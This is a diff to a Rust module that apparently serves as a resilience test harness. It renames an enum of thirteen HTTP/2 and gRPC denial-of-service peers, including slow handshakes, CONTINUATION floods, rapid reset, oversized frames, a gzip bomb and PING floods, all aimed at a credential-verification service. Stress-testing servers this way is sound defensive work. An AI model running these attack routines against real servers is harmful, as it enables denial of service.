@@ -15,7 +15,7 @@ use super::frames::*;
 /// The delay of a slow peer between two bytes.
 const SLOWLY: Duration = Duration::from_millis(200);
 
-/// The delay after being cut off, so that each attack gets its turn. [`Harm::Handshakes`] does not wait.
+/// The delay after being cut off, so that each attack gets its turn. [`Attack::Handshakes`] does not wait.
 const AGAIN: Duration = Duration::from_millis(250);
 
 /// How long a peer that does not read stays.
@@ -25,7 +25,7 @@ type Cut = io::Result<()>;
 
 /// The attack of a peer.
 #[derive(Clone, Copy, Debug)]
-pub enum Harm {
+pub enum Attack {
     Handshakes,
     SlowHandshake,
     SlowPreface,
@@ -41,21 +41,21 @@ pub enum Harm {
     Pings,
 }
 
-impl Harm {
-    pub const ALL: &[Harm] = &[
-        Harm::Handshakes,
-        Harm::SlowHandshake,
-        Harm::SlowPreface,
-        Harm::SlowHeaders,
-        Harm::EndlessMetadata,
-        Harm::LargeMetadata,
-        Harm::OversizedFrame,
-        Harm::TruncatedFrame,
-        Harm::RapidReset,
-        Harm::NeverReads,
-        Harm::NeverTakes,
-        Harm::GzipBomb,
-        Harm::Pings,
+impl Attack {
+    pub const ALL: &[Attack] = &[
+        Attack::Handshakes,
+        Attack::SlowHandshake,
+        Attack::SlowPreface,
+        Attack::SlowHeaders,
+        Attack::EndlessMetadata,
+        Attack::LargeMetadata,
+        Attack::OversizedFrame,
+        Attack::TruncatedFrame,
+        Attack::RapidReset,
+        Attack::NeverReads,
+        Attack::NeverTakes,
+        Attack::GzipBomb,
+        Attack::Pings,
     ];
 
     /// Repeats the attack.
@@ -69,24 +69,24 @@ impl Harm {
 
     async fn once(self, way: &Way, bomb: &[u8]) -> Cut {
         match self {
-            Harm::Handshakes => loop {
-                drop(way.stranger().await?);
+            Attack::Handshakes => loop {
+                drop(way.unauthenticated().await?);
             },
-            Harm::SlowHandshake => {
+            Attack::SlowHandshake => {
                 let mut stream = way.tcp().await?;
                 // The start of a ClientHello of 512 bytes.
                 way.send(&mut stream, &[22, 3, 1, 2, 0, 1, 0, 1, 252]).await?;
                 slowly(way, &mut stream, &[3; 600]).await
             }
-            Harm::SlowPreface => slowly(way, &mut way.stranger().await?, PREFACE).await,
-            Harm::SlowHeaders => {
-                let mut stream = way.stranger().await?;
+            Attack::SlowPreface => slowly(way, &mut way.unauthenticated().await?, PREFACE).await,
+            Attack::SlowHeaders => {
+                let mut stream = way.unauthenticated().await?;
                 way.send(&mut stream, &hello()).await?;
                 way.send(&mut stream, &header(10_000, HEADERS, END_HEADERS, 1)).await?;
                 slowly(way, &mut stream, &[0; 10_000]).await
             }
-            Harm::EndlessMetadata => {
-                let mut stream = way.stranger().await?;
+            Attack::EndlessMetadata => {
+                let mut stream = way.unauthenticated().await?;
                 way.send(&mut stream, &hello()).await?;
                 let call = call("VerificationService/VerifyCredential");
                 way.send(&mut stream, &frame(HEADERS, 0, 1, &call)).await?;
@@ -94,8 +94,8 @@ impl Harm {
                     way.send(&mut stream, &frame(CONTINUATION, 0, 1, &field("x-more", &"m".repeat(1000)))).await?;
                 }
             }
-            Harm::LargeMetadata => {
-                let mut stream = way.stranger().await?;
+            Attack::LargeMetadata => {
+                let mut stream = way.unauthenticated().await?;
                 way.send(&mut stream, &hello()).await?;
                 let fields = [call("VerificationService/VerifyCredential"), field("x", &"m".repeat(16_000))].concat();
                 for stream_id in (1..).step_by(2) {
@@ -103,7 +103,7 @@ impl Harm {
                 }
                 Ok(())
             }
-            Harm::OversizedFrame => {
+            Attack::OversizedFrame => {
                 let mut stream = way.client().await?;
                 way.send(&mut stream, &hello()).await?;
                 way.send(&mut stream, &header((1 << 24) - 1, DATA, 0, 1)).await?;
@@ -111,19 +111,19 @@ impl Harm {
                     way.send(&mut stream, &[0; 1 << 14]).await?;
                 }
             }
-            Harm::TruncatedFrame => {
+            Attack::TruncatedFrame => {
                 let mut stream = way.client().await?;
                 let call = call("VerificationService/VerifyCredential");
                 let whole = frame(HEADERS, END_HEADERS, 1, &call);
                 way.send(&mut stream, &[hello(), whole[..whole.len() / 2].to_vec()].concat()).await?;
                 stream.shutdown().await
             }
-            Harm::RapidReset => rapid_reset(way, way.client().await?).await,
-            Harm::NeverReads => never_reads(way, way.client().await?, &hello()).await,
-            Harm::NeverTakes => never_reads(way, way.client().await?, &hello_without_window()).await,
-            Harm::GzipBomb => gzip_bomb(way, way.client().await?, bomb).await,
-            Harm::Pings => {
-                let mut stream = way.stranger().await?;
+            Attack::RapidReset => rapid_reset(way, way.client().await?).await,
+            Attack::NeverReads => never_reads(way, way.client().await?, &hello()).await,
+            Attack::NeverTakes => never_reads(way, way.client().await?, &hello_without_window()).await,
+            Attack::GzipBomb => gzip_bomb(way, way.client().await?, bomb).await,
+            Attack::Pings => {
+                let mut stream = way.unauthenticated().await?;
                 way.send(&mut stream, &hello()).await?;
                 loop {
                     way.send(&mut stream, &frame(PING, 0, 0, &[7; 8]).repeat(100)).await?;
